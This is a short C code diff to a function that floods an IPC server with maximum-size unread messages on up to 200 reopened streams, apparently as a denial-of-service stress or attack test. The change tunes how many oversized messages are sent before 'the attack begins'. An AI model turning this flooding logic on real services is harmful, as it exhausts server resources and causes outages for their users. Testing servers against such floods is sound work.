@@ -434,7 +434,8 @@ static void boundless_credit(unsigned int index)
 	}
 }
 
-/* Messages of maximum size that the server does not read. Ended streams are opened again. */
+/* Messages of maximum size that the server does not read. Ended streams are opened again. The
+ * largest take most of the time, so there are few of them before the attack begins. */
 static void large_unread(unsigned int index)
 {
 	static uint8_t ballast[6 << 20];
@@ -447,11 +448,13 @@ static void large_unread(unsigned int index)
 	(void)index;
 	number.ballast.data = ballast;
 	for (unsigned int round = 0;; round++) {
+		int ordinary = round > 2 * MOST ? 195 : 199;
+
 		for (int i = 0; i < 200; i++) {
 			if (!all[i] && streams_twice_open(streams, NULL, &all[i], NULL) < 0)
 				continue;
 			/* Larger messages than the server accepts end their streams. */
-			number.ballast.len = i < 199 ? MESSAGE_BYTES - 64 : sizeof(ballast);
+			number.ballast.len = i < ordinary ? MESSAGE_BYTES - 64 : sizeof(ballast);
 			r = streams_twice_send(all[i], 0, &number);
 			if (r < 0 && r != -EAGAIN)
 				all[i] = ipc_stream_unref(all[i]);
